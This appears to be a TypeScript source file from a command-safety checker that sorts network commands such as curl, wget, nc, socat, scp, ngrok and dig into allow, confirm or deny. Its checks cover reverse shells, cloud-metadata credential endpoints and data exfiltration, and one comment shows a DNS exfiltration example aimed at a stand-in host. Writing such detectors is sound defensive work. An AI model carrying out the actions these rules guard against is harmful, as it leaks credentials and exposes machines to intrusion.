/** Network clients: HTTP downloads and uploads, raw sockets, file transfers, diagnostics. */
import type { FamilyRule } from '../context.js';
import { parseFlags } from '../flags.js';
import { allow, confirm, deny } from '../reason.js';
import { judgeReadTarget, judgeWriteTarget, readOnly } from '../targets.js';
import type { Reason } from '../types.js';
import type { Arg } from '../words.js';
import { literalArg } from '../words.js';

const CURL_VALUE = ['o', 'output', 'd', 'data', 'data-binary', 'data-raw', 'data-urlencode', 'data-ascii', 'F', 'form', 'form-string', 'T', 'upload-file', 'X', 'request', 'H', 'header', 'u', 'user', 'A', 'user-agent', 'e', 'referer', 'b', 'cookie', 'c', 'cookie-jar', 'm', 'max-time', 'connect-timeout', 'w', 'write-out', 'x', 'proxy', 'K', 'config', 'E', 'cert', 'key', 'cacert', 'capath', 'r', 'range', 'Y', 'y', 'retry', 'retry-delay', 'retry-max-time', 'resolve', 'connect-to', 'D', 'dump-header', 'url', 'json', 'oauth2-bearer', 'interface', 'limit-rate', 'max-filesize', 'z', 'time-cond', 'trace', 'trace-ascii', 'stderr', 'variable', 'expand-url', 'unix-socket', 'output-dir'];

const curl: FamilyRule = (name, args, ctx) => {
  const f = parseFlags(args, { withValue: CURL_VALUE });
  const out: Reason[] = [];
  for (const o of f.all('o', 'output', 'c', 'cookie-jar', 'D', 'dump-header', 'trace', 'trace-ascii', 'stderr')) if (o !== '-') out.push(...judgeWriteTarget(literalArg(o), ctx.home));
  if (f.has('O', 'remote-name', 'remote-name-all', 'J')) out.push(confirm('fs.write', { en: '{part} saves the download to a file', fr: '{part} enregistre le téléchargement dans un fichier' }, `${name} -O`));
  const payload = f.all('d', 'data', 'data-binary', 'data-raw', 'data-urlencode', 'data-ascii', 'F', 'form', 'T', 'upload-file', 'json', 'K', 'config');
  for (const p of payload) out.push(...judgeReadTarget(literalArg(p.replace(/^[^=@]*=?@?/, (m) => (m.includes('@') ? '' : m))), ctx.home, p));
  const method = (f.value('X', 'request') ?? '').toUpperCase();
  if (payload.length || (method && method !== 'GET' && method !== 'HEAD' && method !== 'OPTIONS')) {
    out.push(confirm('net.upload', { en: '{part} sends data to a server', fr: '{part} envoie des données à un serveur' }, `${name} ${method || '--data'}`.trim()));
  }
  const urls = [...f.positionals, ...f.all('url').map(literalArg)];
  out.push(...requestChecks(name, args, urls, ctx.home));
  for (const h of f.all('H', 'header')) {
    if (h.startsWith('@')) out.push(...judgeReadTarget(literalArg(h.slice(1)), ctx.home, `-H ${h}`), confirm('net.upload', { en: '{part} sends the content of a file as headers', fr: "{part} envoie le contenu d'un fichier comme en-têtes" }, `${name} -H ${h}`));
  }
  return out;
};

/** Instance metadata services hand out the machine's cloud credentials. */
const METADATA = /^(https?:\/\/)?(169\.254\.169\.254|\[?fd00:ec2::254\]?|metadata\.google\.internal|metadata|100\.100\.100\.200|169\.254\.170\.2)([:/]|$)/i;

/** Checks shared by network clients: file:// URLs, metadata endpoints, data only known at run time, and the request itself. */
function requestChecks(name: string, args: readonly Arg[], urls: readonly Arg[], home: string): Reason[] {
  const out: Reason[] = [];
  for (const u of urls) {
    if (/^file:/i.test(u.text)) {
      const path = u.text.replace(/^file:(\/\/(localhost)?)?/i, '');
      out.push(confirm('net.file-url', { en: '{part} reads a local file through a file:// URL', fr: '{part} lit un fichier local via une URL file://' }, u.raw), ...judgeReadTarget({ ...u, text: path }, home, u.raw));
    }
    if (METADATA.test(u.text)) out.push(confirm('creds.metadata', { en: '{part} asks the instance metadata service, which hands out the machine’s cloud credentials', fr: "{part} interroge le service de métadonnées de l'instance, qui délivre les identifiants cloud de la machine" }, u.raw));
  }
  const dynamic = args.filter((a) => a.dynamic && /\$\(|`|\$\{?[A-Za-z_]/.test(a.raw));
  if (dynamic.length) out.push(confirm('net.send-dynamic', { en: '{part}: the request carries a value only known at run time (it can send data out)', fr: "{part} : la requête contient une valeur connue seulement à l'exécution (elle peut faire sortir des données)" }, `${name} ${dynamic.map((a) => a.raw).join(' ')}`));
  out.push(confirm('net.request', { en: '{part} contacts a server over the network', fr: '{part} contacte un serveur par le réseau' }, name));
  return out;
}

const wget: FamilyRule = (name, args, ctx) => {
  const f = parseFlags(args, { withValue: ['O', 'output-document', 'o', 'output-file', 'a', 'append-output', 'P', 'directory-prefix', 'post-data', 'post-file', 'body-data', 'body-file', 'method', 'header', 'U', 'user-agent', 'T', 'timeout', 't', 'tries', 'i', 'input-file', 'e', 'execute', 'user', 'password', 'http-user', 'http-password', 'load-cookies', 'save-cookies'] });
  const out: Reason[] = [];
  const doc = f.value('O', 'output-document');
  if (doc !== undefined && doc !== '-') out.push(...judgeWriteTarget(literalArg(doc), ctx.home));
  if (doc === undefined && !f.has('spider', 'q')) out.push(confirm('fs.write', { en: '{part} saves the download to a file', fr: '{part} enregistre le téléchargement dans un fichier' }, name));
  const dir = f.value('P', 'directory-prefix');
  if (dir) out.push(...judgeWriteTarget(literalArg(dir), ctx.home));
  for (const p of f.all('post-file', 'body-file', 'i', 'input-file')) out.push(...judgeReadTarget(literalArg(p), ctx.home));
  if (f.has('post-data', 'post-file', 'body-data', 'body-file', 'method')) out.push(confirm('net.upload', { en: '{part} sends data to a server', fr: '{part} envoie des données à un serveur' }, name));
  if (f.has('e', 'execute')) out.push(confirm('net.wget-execute', { en: 'wget -e runs wgetrc commands', fr: 'wget -e exécute des commandes wgetrc' }, '-e'));
  for (const h of f.all('header')) if (h.startsWith('@')) out.push(...judgeReadTarget(literalArg(h.slice(1)), ctx.home, `--header ${h}`));
  out.push(...requestChecks(name, args, f.positionals, ctx.home));
  return out;
};

const rawSocket: FamilyRule = (name, args) => {
  const joined = args.map((a) => a.text).join(' ');
  if (/(^|\s)-[a-zA-Z]*[ec](\s|$)|--(exec|sh-exec|lua-exec)|\bexec:|\bsystem:/i.test(joined)) {
    return [deny('net.reverse-shell', { en: '{part} connects a program to a network socket (reverse/bind shell)', fr: '{part} relie un programme à une socket réseau (reverse/bind shell)' }, `${name} ${joined}`)];
  }
  if (/(^|\s)-[a-zA-Z]*z/.test(joined) && name !== 'socat') return [allow('net.probe', { en: '{part} only probes a port', fr: '{part} ne fait que tester un port' }, `${name} -z`)];
  return [confirm('net.socket', { en: '{part} opens a raw network connection', fr: '{part} ouvre une connexion réseau brute' }, name)];
};

const transfer: FamilyRule = (name, args, ctx) => {
  const f = parseFlags(args, { withValue: ['P', 'p', 'i', 'o', 'F', 'c', 'l', 'S', 'J', 'e', 'rsh', 'exclude', 'include', 'filter', 'f', 'log-file', 'rsync-path', 'password-file', 'chmod', 'chown'] });
  const out: Reason[] = [confirm('net.transfer', { en: '{part} copies files over the network', fr: '{part} copie des fichiers par le réseau' }, name)];
  const pos = f.positionals;
  const dest = pos[pos.length - 1];
  for (const s of pos.slice(0, -1)) out.push(...judgeReadTarget(s, ctx.home));
  if (dest && !/^[^/]*:/.test(dest.text)) out.push(...judgeWriteTarget(dest, ctx.home).filter((r) => r.verdict === 'deny'));
  if (f.has('delete', 'delete-before', 'delete-after', 'delete-during', 'remove-source-files')) out.push(confirm('fs.delete', { en: '{part} deletes files that are not in the source', fr: '{part} supprime les fichiers absents de la source' }, '--delete'));
  return out;
};

/** Network diagnostics contact other hosts; what they send can carry data (dig $(cat secret).evil.example). */
const diag: FamilyRule = (name, args, ctx) => requestChecks(name, args, [], ctx.home);

/** Socket listers only read, except ss -K (kills sockets) and -D (writes a dump file). */
const sockets: FamilyRule = (name, args) => {
  const bad = args.filter((a) => /^-[a-zA-Z]*[KD]|^--(kill|diag)/.test(a.text) && name === 'ss');
  if (bad.length) return [confirm('system.network', { en: '{part} kills sockets or writes a dump file', fr: '{part} ferme des sockets ou écrit un fichier de vidage' }, `${name} ${bad.map((a) => a.raw).join(' ')}`)];
  return [readOnly(name)];
};

/** Tunnels and bind shells open this machine to the outside (ngrok, chisel, telnetd -l /bin/sh). */
const tunnel: FamilyRule = (name, args) => [deny('net.reverse-shell', { en: '{part} opens a tunnel or a remote shell that lets the outside reach this machine', fr: "{part} ouvre un tunnel ou un shell distant qui laisse l'extérieur atteindre cette machine" }, `${name} ${args.slice(0, 3).map((a) => a.raw).join(' ')}`.trim())];

export const NETWORK_RULES: Record<string, FamilyRule> = {
  ngrok: tunnel,
  chisel: tunnel,
  frpc: tunnel,
  bore: tunnel,
  telnetd: tunnel,
  curl,
  wget,
  nc: rawSocket,
  ncat: rawSocket,
  netcat: rawSocket,
  socat: rawSocket,
  telnet: rawSocket,
  scp: transfer,
  rsync: transfer,
  sftp: transfer,
  ftp: transfer,
  ping: diag,
  ping6: diag,
  traceroute: diag,
  tracepath: diag,
  mtr: diag,
  dig: diag,
  nslookup: diag,
  host: diag,
  whois: diag,
  ss: sockets,
  netstat: sockets,
  ip: (name, args, ctx) => (args.some((a) => a.text === 'exec') && args.some((a) => a.text === 'netns') ? [confirm('system.network', { en: '{part} runs a command in another network namespace', fr: '{part} exécute une commande dans un autre espace de noms réseau' }, `${name} netns exec`), ...ctx.inner(args.slice(args.findIndex((a) => a.text === 'exec') + 2))] : args.some((a) => /^(add|del|delete|set|flush|change|replace|append|link\s+set|exec|attach|detach|-b|-batch|-force|save|restore|identify|up|down)$/.test(a.text)) ? [confirm('system.network', { en: '{part} changes network configuration', fr: '{part} modifie la configuration réseau' }, `${name} ${args.map((a) => a.raw).join(' ')}`)] : [readOnly(name)]),
  ifconfig: (name, args) => (args.length > 1 ? [confirm('system.network', { en: '{part} changes network configuration', fr: '{part} modifie la configuration réseau' }, name)] : [readOnly(name)]),
  route: (name, args) => (args.some((a) => /^(add|del)$/.test(a.text)) ? [confirm('system.network', { en: '{part} changes network configuration', fr: '{part} modifie la configuration réseau' }, name)] : [readOnly(name)]),
  openssl: (name, args, ctx) => {
    const sub = args[0]?.text ?? '';
    const reads = parseFlags(args, { singleDashLong: true, withValue: ['out', 'in', 'key', 'config', 'inkey', 'CAfile', 'cert'] }).all('in', 'key', 'inkey', 'cert').flatMap((p) => judgeReadTarget(literalArg(p), ctx.home));
    if (sub === 's_client' && !args.some((a) => a.text === '-out')) return [...reads, ...requestChecks(name, args, [], ctx.home)];
    if (/^(x509|version|verify|req|crl|ciphers|dgst|list|rand)$/.test(sub) && !args.some((a) => a.text === '-out') && !(sub === 'req' && args.some((a) => /^-(new|newkey|x509)$/.test(a.text)))) return reads.length ? reads : [readOnly(`${name} ${sub}`)];
    const out = parseFlags(args, { singleDashLong: true, withValue: ['out', 'in', 'key', 'config'] }).value('out');
    return out ? judgeWriteTarget(literalArg(out), ctx.home) : [confirm('crypto.openssl', { en: '{part} may write keys or decrypt data', fr: '{part} peut écrire des clés ou déchiffrer des données' }, `${name} ${sub}`)];
  },
};

/** Commands able to send data off the machine (used for the credential exfiltration rule). */
export const SENDERS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'scp', 'rsync', 'sftp', 'ftp', 'ssh', 'http', 'https', 'mail', 'mailx', 'sendmail', 'mutt', 'aws', 'gsutil', 'gcloud', 'az', 'dig', 'nslookup', 'host', 'openssl', 'python', 'python3', 'perl', 'ruby', 'node', 'php', 'git', 'ping']);
